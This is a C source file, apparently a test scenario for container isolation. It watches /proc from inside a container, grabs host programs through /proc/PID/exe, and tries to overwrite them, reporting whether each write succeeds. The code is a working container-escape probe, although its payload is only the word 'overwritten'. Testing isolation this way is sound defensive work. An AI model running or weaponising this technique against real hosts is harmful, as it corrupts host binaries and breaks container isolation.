/* SPDX-License-Identifier: MIT */

/*
 * Inside of a container: get hold of programs of the host and write to them (S1)
 *
 *     overwrite watch OWN...  until TERM: of every process that appears, take its program if it is
 *                             none of the files OWN, and try to write to it, also when it has ended
 *     overwrite held FD       the same with the program that `loader` left open there
 *
 * Prints "held" for each foreign program that it got hold of and "open: ERROR" for each different
 * way in which an attempt to open it for writing ended; "WRITTEN" when it succeeded.
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

static void write_to(const char *path)
{
    static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_RDWR | O_APPEND };

    for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
        int fd = open(path, flags[i]);

        if (fd < 0) {
            say_once("open: %s", strerrorname_np(errno));
        } else {
            say_once("WRITTEN%s", write(fd, "overwritten", 11) == 11 ? "" : " not, but opened");
            close(fd);
        }
    }
}

static void write_to_held(int fd)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    write_to(path);
}

static bool is_own(const struct stat *found, char **own)
{
    for (; *own; own++) {
        struct stat status;

        if (stat(*own, &status) == 0 && found->st_dev == status.st_dev &&
            found->st_ino == status.st_ino)
            return true;
    }
    return false;
}

static void try_process(const char *pid, char **own, int *held)
{
    char path[64];
    struct stat found;
    int fd = -1;

    snprintf(path, sizeof(path), "/proc/%.16s/exe", pid);
    fd = open(path, O_PATH);
    if (fd < 0) {
        say_once("look: %s", strerrorname_np(errno));
        return;
    }
    if (fstat(fd, &found) < 0 || is_own(&found, own)) {
        close(fd);
        return;
    }
    say_once("held");
    write_to(path);
    if (*held >= 0)
        close(*held);
    *held = fd;
}

int main(int argc, char **argv)
{
    int held = -1;

    if (argc == 3 && strcmp(argv[1], "held") == 0) {
        say_once("held");
        for (int i = 0; i < 1000; i++)
            write_to_held(atoi(argv[2]));
        return 0;
    }
    if (argc < 3 || strcmp(argv[1], "watch") != 0)
        return 2;
    signal(SIGTERM, end);
    while (!ended) {
        DIR *proc = opendir("/proc");

        for (struct dirent *entry = NULL; proc && (entry = readdir(proc));) {
            if (entry->d_name[0] > '1' || (entry->d_name[0] == '1' && entry->d_name[1]))
                try_process(entry->d_name, argv + 2, &held);
        }
        if (proc)
            closedir(proc);
        if (held >= 0)
            write_to_held(held);
    }
    puts("watched");
    return 0;
}
